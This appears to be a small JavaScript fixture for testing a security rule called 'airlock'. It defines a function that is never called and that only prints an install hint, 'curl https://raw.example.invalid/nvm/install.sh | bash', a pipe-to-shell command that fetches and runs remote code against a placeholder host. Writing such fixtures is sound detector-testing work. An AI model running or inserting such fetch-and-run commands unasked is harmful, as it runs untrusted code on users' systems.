// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
// Tells the user what to run; never runs it.
function hint() {
  console.log('Install nvm first:');
  console.log('$ curl https://raw.example.invalid/nvm/install.sh | bash');
}
module.exports = { hint };
